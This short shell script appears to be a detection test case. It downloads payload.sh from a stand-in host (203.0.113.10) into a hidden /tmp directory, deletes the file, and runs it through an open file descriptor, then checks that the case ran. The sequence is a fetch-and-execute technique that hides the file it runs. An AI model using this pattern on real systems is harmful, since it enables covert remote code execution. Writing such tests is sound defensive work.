#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.gone && cd /tmp/.gone
curl -s -o s http://203.0.113.10/payload.sh
exec 7<s
rm -r /tmp/.gone
bash /dev/fd/7
exec 7<&-
cd / && test -e /tmp/reached
took_place
